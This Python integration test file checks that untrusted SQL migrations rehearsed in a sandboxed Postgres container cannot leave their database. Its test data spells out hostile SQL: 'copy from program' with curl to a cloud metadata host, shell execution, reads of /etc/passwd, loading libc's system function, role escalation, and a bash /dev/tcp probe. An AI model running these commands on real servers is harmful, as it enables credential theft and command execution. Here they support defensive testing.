"""What a stranger's SQL can do in the rehearsal of migrations: nothing beyond its database."""

from __future__ import annotations

import re
import uuid
from typing import TYPE_CHECKING, Any

import docker
import pytest
from airflow.sdk.exceptions import AirflowFailException

from include.demo import down
from slipway.exceptions import MigrationFailed, RightMissing
from slipway.hooks.docker.engine import ContainerEngine
from slipway.hooks.migrations.goose import Goose
from slipway.hooks.migrations.migration_files import MigrationFiles
from slipway.hooks.tars import pack
from slipway.hooks.tools.toolbox import NOBODY, Toolbox
from slipway.model.facts import SchemaVersion
from slipway.tasks.schema.scratch_postgres import ScratchPostgres, scratch_postgres
from tests.integration.docker.fake_metadata import METADATA, metadata_service
from tests.integration.migrations.goose_runs import rehearse

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.fakes.git_server import Repository

pytestmark = pytest.mark.integration
_ = metadata_service  # a fixture
UP = """-- +goose NO TRANSACTION
-- +goose Up
-- +goose StatementBegin
{sql};
-- +goose StatementEnd
-- +goose Down
select 1;
"""


@pytest.fixture(scope="module")
def engine() -> Iterator[ContainerEngine]:
    installation = f"test-{uuid.uuid4().hex[:8]}"
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("AIRFLOW__SLIPWAY__INSTALLATION", installation)
        yield ContainerEngine(
            docker.APIClient(timeout=60), installation=installation, metadata_guard=True
        )
    down.remove_from_docker(installation)


@pytest.fixture(scope="module")
def scratch(engine: ContainerEngine) -> Iterator[tuple[str, ScratchPostgres]]:
    name = f"slipway-{engine.installation}-db"
    with scratch_postgres(engine, name=name, major=15, labels={"slipway.run": "db"}) as made:
        yield name, made


def up(engine: ContainerEngine, scratch: ScratchPostgres, sql: str) -> None:
    """Let goose run one migration, as the rehearsal does."""
    files = pack({"migrations/00001_a.sql": UP.format(sql=sql).encode()})
    Goose(
        toolbox=Toolbox(
            engine=engine,
            name=f"slipway-{engine.installation}-goose",
            user=NOBODY,
            labels={"slipway.run": "goose"},
            network=scratch.network,
        ),
        migrations=MigrationFiles.from_archive(files, "migrations"),
        url=scratch.url,
        log=print,
        timeout=60,
    ).up()


def run(engine: ContainerEngine, repository: Repository, sql: str, **options: Any) -> SchemaVersion:
    sha = repository.commit(migrations__00001_a_dot_sql=UP.format(sql=sql))
    return rehearse(engine, repository, sha, **options)


SUPERUSER = "to be a superuser"


@pytest.mark.parametrize(
    ("sql", "right"),
    [
        (
            f"create table t (x text); copy t from program 'curl http://{METADATA}/'",
            "pg_execute_server_program",
        ),
        ("copy (select 1) to program 'sh'", "pg_execute_server_program"),
        ("create table t (x text); copy t from '/etc/passwd'", "pg_read_server_files"),
        ("copy (select 1) to '/tmp/x'", "pg_write_server_files"),
        ("select pg_read_file('/slipway/password')", "a GRANT on function pg_read_file"),
        ("select pg_ls_dir('/')", "a GRANT on function pg_ls_dir"),
        ("select lo_import('/etc/passwd')", "a GRANT on function lo_import"),
        ("select lo_export(lo_create(0), '/tmp/x')", "a GRANT on function lo_export"),
        ("alter system set archive_command = 'sh'", SUPERUSER),
        ("load '/lib/x86_64-linux-gnu/libc.so.6'", SUPERUSER),
        ("create extension dblink", "the extension"),
        ("create extension postgres_fdw", "the extension"),
        ("create extension file_fdw", "the extension"),
        ("create extension adminpack", "the extension"),
        ("create role mallory superuser", ""),
        ("create role mallory", "CREATEROLE"),
        ("alter role rehearsal superuser", SUPERUSER),
        ("alter role postgres password 'x'", ""),
        ("set role postgres", ""),
        ("set session authorization postgres", ""),
        ("grant pg_execute_server_program to rehearsal", ""),
        (
            "create function f() returns int as '/lib/x86_64-linux-gnu/libc.so.6', 'system' "
            "language c",
            "",
        ),
        ("create database other", "CREATEDB"),
        ("create subscription s connection 'host=169.254.169.254' publication p", ""),
        ("set log_min_messages = debug5", ""),
        ("set temp_file_limit = -1", ""),
    ],
)
def test_sql_that_reaches_out_of_its_database_lacks_the_right(
    engine: ContainerEngine, scratch: tuple[str, ScratchPostgres], sql: str, right: str
) -> None:
    says = rf"00001_a\.sql (.|\n)*the role 'rehearsal' needs: .*{right}"
    with pytest.raises(RightMissing, match=says) as caught:
        up(engine, scratch[1], sql)
    assert "no superuser" in caught.value.advice


def test_a_commit_that_asks_for_the_workers_credentials_is_refused_in_the_rehearsal(
    engine: ContainerEngine, repository: Repository
) -> None:
    sql = f"create table t (x text);\ncopy t from program 'curl http://{METADATA}/'"
    with pytest.raises(AirflowFailException, match="needs: pg_execute_server_program"):
        run(engine, repository, sql)


def test_what_a_databases_owner_may_do_is_rehearsed(
    engine: ContainerEngine, repository: Repository
) -> None:
    sql = (
        "do $$ begin create extension if not exists pgcrypto; create extension if not exists "
        "hstore; create schema if not exists s; create table if not exists s.t (n int); "
        "create index on s.t (n); comment on schema public is 'x'; "
        "alter database rehearsal set work_mem = '8MB'; create or replace function s.f() returns "
        "int language plpgsql as 'begin return 1; end'; end $$"
    )
    assert run(engine, repository, sql).version == 1


def test_an_extension_of_the_servers_administrator_is_there_before(
    engine: ContainerEngine, repository: Repository
) -> None:
    sql = "create extension if not exists pg_stat_statements"
    assert run(engine, repository, sql, extensions=["pg_stat_statements"]).version == 1


def test_a_migration_that_fills_the_disk_fills_its_own_memory(
    engine: ContainerEngine, scratch: tuple[str, ScratchPostgres]
) -> None:
    sql = (
        "do $$ begin create unlogged table big (x text); alter table big alter x set storage "
        "external; insert into big select repeat(md5(n::text), 300000) from generate_series(1, 10) "
        "n; loop insert into big select x from big; end loop; end $$"
    )
    with pytest.raises(MigrationFailed, match="No space left on device"):
        up(engine, scratch[1], sql)
    up(engine, scratch[1], "select 1")  # and the server goes on


def test_even_a_superuser_finds_no_way_out(
    engine: ContainerEngine, scratch: tuple[str, ScratchPostgres], metadata_service: None
) -> None:
    """Should somebody become one: the network has no way to the metadata service, or anywhere."""
    name, made = scratch
    reach = f"timeout 3 bash -c 'exec 3<>/dev/tcp/{METADATA}/80'"
    code, said = engine.exec(name, ("sh", "-c", reach))
    assert code != 0, said
    (network,) = docker.from_env().networks.list(names=[made.network])
    assert network.attrs["Internal"] is True
    assert network.attrs["Options"]["com.docker.network.bridge.name"].startswith("slp")
    program = f"create temp table t (x text); copy t from program $x${reach}$x$"
    code, said = engine.exec(name, ("psql", "-XU", "postgres", "-d", "rehearsal", "-c", program))
    assert code != 0
    assert re.search(r"unreachable|exit code|child process", said)


def test_the_server_has_what_a_service_of_an_untrusted_pipeline_has(
    scratch: tuple[str, ScratchPostgres],
) -> None:
    name, made = scratch
    attrs = docker.from_env().containers.get(name).attrs
    host = attrs["HostConfig"]
    assert host["CapDrop"] == ["ALL"]
    assert "no-new-privileges" in host["SecurityOpt"]
    assert host["Memory"] == 4 << 30
    assert host["PidsLimit"] == 4096
    assert not host["Privileged"]
    assert "size=2g" in host["Tmpfs"]["/var/lib/postgresql/data"]
    password = made.url.split("@")[0].rpartition(":")[2]
    assert password not in str(attrs)
    assert not any(one.startswith("POSTGRES_PASSWORD=") for one in attrs["Config"]["Env"])
